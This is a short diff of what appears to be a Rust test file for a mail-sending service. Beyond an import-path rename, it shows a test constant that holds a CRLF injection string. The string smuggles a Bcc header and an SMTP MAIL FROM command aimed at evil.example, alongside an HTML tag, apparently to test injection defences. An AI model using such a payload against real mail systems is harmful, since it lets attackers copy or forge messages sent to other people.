@@ -3,7 +3,7 @@
 use reqwest::{Method, StatusCode};
 use serde_json::{Value, json};
 
-use crate::kit::{Encryption, FakeSmtp, Options, Taken, TestApp};
+use crate::support::{Encryption, FakeSmtp, Options, Taken, TestApp};
 
 const HOSTILE: &str = "<img src=x>\r\nBcc: all@evil.example\r\n\r\n.\r\nMAIL FROM:<x@evil.example>";
 
